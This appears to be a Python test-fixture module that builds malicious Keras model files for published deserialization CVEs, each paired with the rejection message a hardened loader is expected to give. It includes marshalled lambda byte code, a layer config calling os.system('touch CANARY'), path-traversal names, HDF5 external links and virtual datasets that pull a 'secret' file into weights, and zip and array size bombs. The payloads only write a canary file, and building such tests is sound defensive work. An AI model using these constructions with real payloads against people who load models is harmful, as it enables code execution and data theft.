"""Files of the published attacks on Keras's readers, by CVE, each saved by the Keras that is here and then changed.

What a file does to a reader that has the weakness: it leaves a file CANARY in the current folder, or brings what stands
in the file `secret` into the weights. Of CVE-2026-12480 no description was found (2026-12-01); in its place stand the
kinds next to it: links, virtual sets and zip folders whose many small members are a bomb together.
"""

import base64
import json
import marshal
import zipfile
from collections.abc import Callable
from pathlib import Path

import h5py
import numpy as np
import tensorflow as tf
from tensorflow import keras

L = keras.layers
Parts = dict[str, bytes]
Change = Callable[[dict], None]


def payload() -> Callable:
    """The code in the files: a lambda, which Keras writes as byte code; all its names are built in."""
    return lambda x: (open("CANARY", "w").close(), x)[1]  # noqa: PTH123


def save(path: Path, *middle: keras.layers.Layer) -> None:
    """Save a model with `middle` between its pooled pixels and its classes."""
    x = inputs = keras.Input((32, 32, 3), name="images")
    for layer in (L.GlobalAveragePooling2D(name="pool"), *middle, L.Dense(10, name="dense")):
        x = layer(x)
    keras.Model(inputs, x).save(path)
    Path("CANARY").unlink(missing_ok=True)  # Keras called the layers while it built them


def save_lambda(path: Path) -> None:
    save(path, L.Lambda(payload(), output_shape=(3,), name="attack"))


def repack(path: Path, change: Callable[[Parts], None]) -> None:
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)


def change_layer(path: Path, name: str, change: Change) -> None:
    def rewrite(parts: Parts) -> None:
        config = json.loads(parts["config.json"])
        change(next(entry for entry in config["config"]["layers"] if entry["config"]["name"] == name))
        parts["config.json"] = json.dumps(config).encode()

    repack(path, rewrite)


# Code and functions in the architecture


def byte_code(path: Path) -> None:
    code = base64.b64encode(marshal.dumps(payload().__code__)).decode()
    config = {"code": code, "defaults": None, "closure": None}
    save_lambda(path)
    change_layer(
        path, "attack", lambda entry: entry["config"].update(function={"class_name": "__lambda__", "config": config})
    )


def byte_code_in_a_wrapper(path: Path) -> None:
    rows = [L.Reshape((1, 3)), L.TimeDistributed(L.Lambda(payload(), output_shape=(3,))), L.Flatten()]
    save(path, *rows)


def calling(module: str, function: str, **arguments: object) -> Callable[[Path], None]:
    """A layer that calls a function named by its module, with arguments of the file's own."""
    named = {"class_name": "function", "module": module, "config": function, "registered_name": function}

    def make(path: Path) -> None:
        save_lambda(path)
        change_layer(path, "attack", lambda entry: entry["config"].update(function=named, arguments=arguments))

    return make


def saved_model_layer(path: Path) -> None:
    saved_model(path.parent / "theirs")
    config = {"filepath": str(path.parent / "theirs"), "call_endpoint": "serve", "name": "attack"}
    save_lambda(path)
    change_layer(
        path, "attack", lambda entry: entry.update(class_name="TFSMLayer", module="keras.layers", config=config)
    )


def saved_model(folder: Path) -> None:
    """A SavedModel whose function writes CANARY."""
    module, canary = tf.Module(), str(Path("CANARY").absolute())

    @tf.function(input_signature=[tf.TensorSpec((None, 3), tf.float32)])
    def serve(x: tf.Tensor) -> tf.Tensor:
        tf.io.write_file(canary, "x")
        return x

    module.serve = serve
    tf.saved_model.save(module, str(folder))


def climbing_names(path: Path) -> None:
    save(path)
    change_layer(path, "dense", lambda entry: entry["config"].update(name="../../CANARY"))
    repack(path, lambda parts: parts.update({"assets/../../CANARY": b"x"}))


# Weights that are not in the file, or that are more than the file


def changing_weights(change: Callable[[h5py.Group, str], None]) -> Callable[[Path], None]:
    """A model in whose HDF5 file `change(group, name)` has put something in the place of ten weights."""

    def make(path: Path) -> None:
        save(path)
        if path.suffix == ".h5":
            _replace_bias(path, change)
            return

        def rewrite(parts: Parts) -> None:
            weights = path.with_name("weights.h5")
            weights.write_bytes(parts["model.weights.h5"])
            _replace_bias(weights, change)
            parts["model.weights.h5"] = weights.read_bytes()
            weights.unlink()

        repack(path, rewrite)

    return make


def _replace_bias(path: Path, change: Callable[[h5py.Group, str], None]) -> None:
    found: list[str] = []
    with h5py.File(path, "a") as file:
        file.visititems(lambda name, item: found.append(name) if getattr(item, "shape", None) == (10,) else None)
        place, _, name = found[0].rpartition("/")
        del file[place][name]
        change(file[place], name)


def secret() -> str:
    """A file of the user's with ten numbers, and the place of them in it as an HDF5 set."""
    with h5py.File("secret", "w") as other:
        other["x"] = np.arange(10, dtype="f4")
    return str(Path("secret").absolute())


def external_storage(group: h5py.Group, name: str) -> None:
    group.create_dataset(name, (10,), "f4", external=[(secret(), 0, 40)])


def external_link(group: h5py.Group, name: str) -> None:
    group[name] = h5py.ExternalLink(secret(), "/x")


def soft_link(group: h5py.Group, name: str) -> None:
    group["other"] = np.arange(10, dtype="f4")
    group[name] = h5py.SoftLink(f"{group.name}/other")


def virtual_set(group: h5py.Group, name: str) -> None:
    layout = h5py.VirtualLayout((10,), "f4")
    layout[:] = h5py.VirtualSource(secret(), "x", (10,))
    group.create_virtual_dataset(name, layout)


def huge_shape(group: h5py.Group, name: str) -> None:
    group.create_dataset(name, (10**11,), "f4", chunks=(1000,))


def many_members(path: Path) -> None:
    save(path)
    repack(path, lambda parts: parts.update({f"assets/{number}": bytes(1_000_000) for number in range(200)}))


# Name -> how it is made, where: the suffix, and what the refusal says.
FILES: dict[str, tuple[Callable[[Path], None], str, str]] = {
    "CVE-2024-3660 byte code in a Lambda layer": (byte_code, ".keras", "Lambda layer, which is code"),
    "CVE-2025-1550 a function of any module": (calling("os", "system", command="touch CANARY"), ".keras", "Lambda"),
    "CVE-2025-8747 get_file of Keras": (
        calling("keras.utils", "get_file", fname="CANARY", origin="data:,x", cache_dir=".", cache_subdir="."),
        ".keras",
        "Lambda",
    ),
    "CVE-2025-9905 byte code in an .h5 file": (save_lambda, ".h5", "Lambda layer, which is code"),
    "CVE-2025-9906 the safe mode switched off by the file": (
        calling("keras.config", "enable_unsafe_deserialization"),
        ".keras",
        "Lambda",
    ),
    "CVE-2026-1462 TFSMLayer": (saved_model_layer, ".keras", "TFSMLayer of keras.layers is not in"),
    "CVE-2026-1669 external storage": (changing_weights(external_storage), ".keras", "lies in another file"),
    "CVE-2026-1669 external storage in an .h5 file": (changing_weights(external_storage), ".h5", "lies in another"),
    "CVE-2026-12479 names that climb out of the folder": (climbing_names, ".keras", "expected a plain name"),
    "CVE-2026-12480 external link": (changing_weights(external_link), ".keras", "link to another place"),
    "CVE-2026-12480 external link in an .h5 file": (changing_weights(external_link), ".h5", "link to another place"),
    "CVE-2026-12480 soft link": (changing_weights(soft_link), ".keras", "link to another place"),
    "CVE-2026-12480 virtual set": (changing_weights(virtual_set), ".keras", "lies in another file"),
    "CVE-2026-12480 virtual set in an .h5 file": (changing_weights(virtual_set), ".h5", "lies in another file"),
    "CVE-2026-12480 many members": (many_members, ".keras", "bytes in a file of"),
    "CVE-2026-12481 a Lambda inside a wrapper": (byte_code_in_a_wrapper, ".keras", "Lambda"),
    "CVE-2026-0897 an array larger than its file": (changing_weights(huge_shape), ".keras", "bytes, of which 0"),
}


def make(name: str, folder: Path) -> Path:
    """Write one of FILES into a folder, which is the current one; returns its path."""
    builder, suffix, _ = FILES[name]
    builder(folder / f"theirs{suffix}")
    return folder / f"theirs{suffix}"
